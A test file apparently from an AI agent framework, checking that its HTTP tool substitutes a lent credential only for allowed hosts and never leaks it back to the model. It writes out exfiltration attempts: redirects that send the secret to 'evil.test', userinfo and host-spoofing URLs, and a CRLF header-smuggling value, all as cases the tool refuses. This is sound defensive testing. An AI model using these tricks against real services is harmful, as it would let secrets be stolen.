/** Placeholders under attack, against real servers on loopback: what each of them heard, byte for byte, and what came back to the model. */
import { createServer, type IncomingMessage, type RequestListener } from 'node:http'
import type { AddressInfo } from 'node:net'
import { brotliCompressSync, gzipSync } from 'node:zlib'
import { describe, expect, test } from 'vitest'
import { type LentCredential, SecretBook } from '#core'
import { formsOf } from '../../../extensions/engine/core/redactor-forms.ts'
import { KEPT_BYTES } from '../../../extensions/engine/tool/bounded.ts'
import type { ToolPorts } from '../../../extensions/engine/tool/mod.ts'
import { atEnd, place } from './stage.ts'

const SECRET = 'loopback/secret+value=42'
const PLACEHOLDER = '{{credential.shop.token}}'

interface Heard {
  readonly text: string
  readonly url: string
  readonly headers: IncomingMessage['headers']
  readonly body: string
}

async function serve(listener: RequestListener): Promise<{ readonly port: number; readonly heard: Heard[] }> {
  const heard: Heard[] = []
  const server = createServer((request, response) => {
    const chunks: Buffer[] = []
    request.on('data', (chunk: Buffer) => chunks.push(chunk))
    request.on('end', () => {
      const body = Buffer.concat(chunks).toString()
      heard.push({
        text: `${request.url}\n${JSON.stringify(request.rawHeaders)}\n${body}`,
        url: request.url ?? '',
        headers: request.headers,
        body,
      })
      listener(request, response)
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  atEnd(
    () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve())
        server.closeAllConnections()
      }),
  )
  return { port: (server.address() as AddressInfo).port, heard }
}

const FORMS = formsOf(SECRET).map((form) => Buffer.from(form).toString('latin1'))
const leaks = (text: string): readonly string[] => FORMS.filter((form) => text.includes(form))

interface Scene {
  readonly hosts: readonly string[]
  readonly allowPrivate?: boolean
  readonly headers?: Record<string, string>
  readonly lookup?: ToolPorts['lookup']
  readonly sends?: (credential: string, host: string) => Promise<void>
}

/** A model's tools with one credential lent to its run. */
async function borrowed({ hosts, allowPrivate = true, headers = {}, lookup, sends = async () => undefined }: Scene) {
  const book = new SecretBook()
  book.hold([{ mask: PLACEHOLDER, value: SECRET }])
  const credential: LentCredential = { name: 'shop', fields: { token: SECRET }, headers, hosts, allowPrivate }
  const sent: string[] = []
  const loans = {
    credentials: [credential],
    sends: async (name: string, host: string) => {
      await sends(name, host)
      sent.push(`${name} ${host}`)
    },
  }
  const at = await place(
    { http: { enabled: true, allowPrivate: true } },
    { redactor: book.redactor, ...(lookup ? { lookup } : {}) },
    {},
    { loans, lentEnv: { SHOP_TOKEN: PLACEHOLDER } },
  )
  return { sent, ask: (args: object) => at.call('http_request', args) }
}

const name = (port: number): string => `shop.test:${port}`
const toLoopback: ToolPorts['lookup'] = async () => [{ address: '127.0.0.1', family: 4 }]

describe('placeholders', () => {
  test('[TL50] a value stands in header, path, query and body for an allowed host, in the form of each; the model sees only the placeholder', async () => {
    const server = await serve((request, response) => response.end(`you said ${request.headers.authorization} at ${request.url}`))
    const { ask, sent } = await borrowed({ hosts: [name(server.port)], lookup: toLoopback })
    const result = await ask({
      url: `http://${name(server.port)}/of/${PLACEHOLDER}?key={{ credential.shop.token }}`,
      method: 'POST',
      headers: { Authorization: `Bearer ${PLACEHOLDER}`, 'Content-Type': 'application/json' },
      body: JSON.stringify({ token: PLACEHOLDER }),
    })
    const [heard] = server.heard
    expect(heard?.headers.authorization).toBe(`Bearer ${SECRET}`)
    expect(heard?.url).toBe(`/of/${encodeURIComponent(SECRET)}?key=${encodeURIComponent(SECRET)}`)
    expect(JSON.parse(heard?.body ?? '')).toEqual({ token: SECRET })
    expect(sent).toEqual([`shop ${name(server.port)}`])
    expect(result.ok).toBe(true)
    expect(result.text).toContain(`you said Bearer ${PLACEHOLDER}`)
    expect(leaks(result.text)).toEqual([])
  })

  test('[TL51] the headers of its connector are added for its hosts, and not over the caller\u2019s own', async () => {
    const server = await serve((_request, response) => response.end('fine'))
    const other = await serve((_request, response) => response.end('fine'))
    const { ask } = await borrowed({ hosts: [`127.0.0.1:${server.port}`], headers: { Authorization: `Token ${SECRET}` } })
    await ask({ url: `http://127.0.0.1:${server.port}/` })
    await ask({ url: `http://127.0.0.1:${server.port}/`, headers: { authorization: 'mine' } })
    await ask({ url: `http://127.0.0.1:${other.port}/` })
    expect(server.heard.map(({ headers }) => headers.authorization)).toEqual([`Token ${SECRET}`, 'mine'])
    expect(other.heard.map(({ headers }) => headers.authorization)).toEqual([undefined])
  })

  test('[TL52] another host, another port, another scheme: nothing is sent, and the refusal says where it may go', async () => {
    const server = await serve((_request, response) => response.end('never'))
    for (const hosts of [
      ['shop.test'],
      ['shop.test:1'],
      ['127.0.0.1'],
      [`other.test:${server.port}`],
      [`*.shop.test:${server.port}`],
      [],
    ]) {
      const { ask, sent } = await borrowed({ hosts, lookup: toLoopback, headers: { authorization: SECRET } })
      const result = await ask({ url: `http://${name(server.port)}/?key=${PLACEHOLDER}` })
      expect(result.ok).toBe(false)
      expect(result.text).toMatch(/shop may not be sent to http:\/\/shop\.test:\d+/)
      expect(sent).toEqual([])
    }
    expect(server.heard).toEqual([])
  })

  test('[TL53] tricks with user names, hosts, ports and unknown names are refused before anything is sent', async () => {
    const server = await serve((_request, response) => response.end('never'))
    const { ask } = await borrowed({ hosts: [name(server.port)], lookup: toLoopback })
    for (const url of [
      `http://${name(server.port)}@127.0.0.1:${server.port}/?key=${PLACEHOLDER}`,
      `http://${PLACEHOLDER}@${name(server.port)}/`,
      `http://${PLACEHOLDER}.${name(server.port)}/`,
      `http://shop.test:${PLACEHOLDER}/`,
      `${PLACEHOLDER}://${name(server.port)}/`,
      `http://${name(server.port)}.evil.test/?key=${PLACEHOLDER}`,
      `http://evil.test:${server.port}/${name(server.port)}?key=${PLACEHOLDER}`,
      `http://${name(server.port)}/?key={{credential.other.token}}`,
      `http://${name(server.port)}/?key={{credential.shop.other}}`,
    ]) {
      const result = await ask({ url })
      expect(`${url}: ${result.ok}`).toBe(`${url}: false`)
      expect(leaks(result.text)).toEqual([])
    }
    expect(server.heard).toEqual([])
    for (const headers of [{ [PLACEHOLDER]: 'x' }, { 'x-a': `a\r\nx-b: ${PLACEHOLDER}` }]) {
      expect((await ask({ url: `http://${name(server.port)}/`, headers })).ok).toBe(false)
    }
    expect(leaks(server.heard.map(({ text }) => text).join())).toEqual([])
  })

  test.each([301, 302, 303, 307, 308])('[TL54] a chain of redirects (%i) to a foreign host carries nothing there', async (status) => {
    const foreign = await serve((_request, response) => response.end('caught'))
    const server = await serve((request, response) => {
      const to = request.url === '/second' ? `http://evil.test:${foreign.port}/catch` : '/second'
      response.writeHead(status, { location: to }).end()
    })
    const scene = { hosts: [name(server.port)], lookup: toLoopback, headers: { 'x-key': SECRET } }
    const { ask } = await borrowed(scene)
    const quiet = await ask({ url: `http://${name(server.port)}/first`, headers: { authorization: PLACEHOLDER, accept: PLACEHOLDER } })
    expect(server.heard.map(({ headers }) => headers.authorization)).toEqual([SECRET, SECRET])
    expect(quiet.text).toContain('caught')
    const loud = await ask({ url: `http://${name(server.port)}/second`, method: 'POST', body: `key=${PLACEHOLDER}` })
    expect(loud.ok).toBe(status < 307)
    expect(leaks(foreign.heard.map(({ text }) => text).join())).toEqual([])
    expect(foreign.heard.length).toBe(status < 307 ? 2 : 1)
  })

  test('[TL53] a value never becomes a part of a host, though a pattern would allow it', async () => {
    const server = await serve((_request, response) => response.end('never'))
    const asked: string[] = []
    const lookup: ToolPorts['lookup'] = async (hostname) => {
      asked.push(hostname)
      return [{ address: '127.0.0.1', family: 4 }]
    }
    const { ask } = await borrowed({ hosts: [`*.shop.test:${server.port}`], lookup })
    const result = await ask({ url: `http://${PLACEHOLDER}.shop.test:${server.port}/` })
    expect(result).toMatchObject({ ok: false, text: expect.stringContaining('cannot be a part of the host') })
    expect([asked, server.heard]).toEqual([[], []])
  })

  test('[TL54] another origin that may have the value too does not get it by a redirect', async () => {
    const second = await serve((_request, response) => response.end('caught'))
    const first = await serve((_request, response) => response.writeHead(307, { location: `http://${name(second.port)}/` }).end())
    const { ask } = await borrowed({ hosts: [name(first.port), name(second.port)], lookup: toLoopback, headers: { 'x-key': SECRET } })
    const loud = await ask({ url: `http://${name(first.port)}/`, method: 'POST', body: PLACEHOLDER })
    expect(loud).toMatchObject({ ok: false, text: expect.stringContaining('was not sent there') })
    await ask({ url: `http://${name(first.port)}/`, headers: { authorization: PLACEHOLDER } })
    expect(second.heard.map(({ headers }) => [headers.authorization, headers['x-key']])).toEqual([[undefined, undefined]])
  })

  test('[TL54] once it has left its host, nothing is put in any more, though the foreign host sends it back', async () => {
    const foreign = await serve((_request, response) => response.writeHead(302, { location: `http://${name(server.port)}/back` }).end())
    const server = await serve((request, response) => {
      if (request.url === '/back') response.end('done')
      else response.writeHead(302, { location: `http://evil.test:${foreign.port}/` }).end()
    })
    const { ask } = await borrowed({ hosts: [name(server.port)], lookup: toLoopback, headers: { 'x-key': SECRET } })
    expect((await ask({ url: `http://${name(server.port)}/` })).text).toContain('done')
    expect(server.heard.map(({ headers }) => headers['x-key'])).toEqual([SECRET, undefined])
  })

  test('[TL55] a redirect that carries the value in its address to another host is not followed', async () => {
    const foreign = await serve((_request, response) => response.end('caught'))
    const server = await serve((request, response) => {
      response
        .writeHead(302, { location: `http://evil.test:${foreign.port}/?k=${encodeURIComponent(request.headers['x-key'] as string)}` })
        .end()
    })
    const { ask } = await borrowed({ hosts: [name(server.port)], lookup: toLoopback })
    const result = await ask({ url: `http://${name(server.port)}/`, headers: { 'x-key': PLACEHOLDER } })
    expect(result).toMatchObject({ ok: false, text: expect.stringContaining('was not followed') })
    expect(foreign.heard).toEqual([])
  })

  test('[TL56] an allowed name that resolves to a private address gets nothing, unless the credential allows it', async () => {
    const server = await serve((_request, response) => response.end('inside'))
    const scene = { hosts: [name(server.port)], lookup: toLoopback, headers: { 'x-key': SECRET } }
    const guarded = await borrowed({ ...scene, allowPrivate: false })
    const asked = await guarded.ask({ url: `http://${name(server.port)}/?key=${PLACEHOLDER}` })
    expect(asked).toMatchObject({ ok: false, text: expect.stringContaining('not public (loopback)') })
    // Without a placeholder the request is the persona's own affair, but no header is added to it.
    await guarded.ask({ url: `http://${name(server.port)}/plain` })
    expect(server.heard.map(({ url, headers }) => [url, headers['x-key']])).toEqual([['/plain', undefined]])
    const open = await borrowed(scene)
    await open.ask({ url: `http://${name(server.port)}/plain` })
    expect(server.heard.at(-1)?.headers['x-key']).toBe(SECRET)
  })

  test.each(['plain', 'gzip', 'br'])(
    '[TL57] a response (%s) that echoes the value, in headers and body, in any spelling and cut anywhere, is clean',
    async (coding) => {
      const spelled = [...formsOf(SECRET)].map((form) => Buffer.from(form))
      const text = Buffer.concat(spelled.flatMap((form) => [Buffer.from('\n<'), form, Buffer.from('>')]))
      const body = coding === 'gzip' ? gzipSync(text) : coding === 'br' ? brotliCompressSync(text) : text
      const server = await serve((request, response) => {
        response.writeHead(200, {
          'content-type': 'text/plain',
          etag: `"${request.headers['x-key']}"`,
          link: encodeURIComponent(SECRET),
          ...(coding === 'plain' ? {} : { 'content-encoding': coding }),
        })
        const send = (at: number): void => {
          if (at >= body.length) return void response.end()
          response.write(body.subarray(at, at + 7), () => setImmediate(send, at + 7))
        }
        send(0)
      })
      const { ask } = await borrowed({ hosts: [`127.0.0.1:${server.port}`] })
      const result = await ask({ url: `http://127.0.0.1:${server.port}/`, headers: { 'x-key': PLACEHOLDER } })
      expect(leaks(result.text)).toEqual([])
      expect(result.text.split(`<${PLACEHOLDER}>`).length).toBeGreaterThan(10)
      expect(result.text).toContain(`etag: "${PLACEHOLDER}"`)
    },
  )

  test('[TL57] a value at the cut of a long answer leaves no beginning behind', async () => {
    for (const before of [KEPT_BYTES - 12, KEPT_BYTES - 5]) {
      const server = await serve((_request, response) => response.end('.'.repeat(before) + SECRET + '.'.repeat(5000)))
      const { ask } = await borrowed({ hosts: [`127.0.0.1:${server.port}`] })
      const result = await ask({ url: `http://127.0.0.1:${server.port}/` })
      expect(result.text).not.toContain(SECRET.slice(0, 4))
    }
  })

  test('[TL58] what cannot be entered in the audit log is not sent', async () => {
    const server = await serve((_request, response) => response.end('never'))
    const { ask } = await borrowed({
      hosts: [`127.0.0.1:${server.port}`],
      sends: () => Promise.reject(new Error('the log is full')),
      headers: { 'x-key': SECRET },
    })
    await expect(ask({ url: `http://127.0.0.1:${server.port}/` })).rejects.toThrow('the log is full')
    expect(server.heard).toEqual([])
  })
})
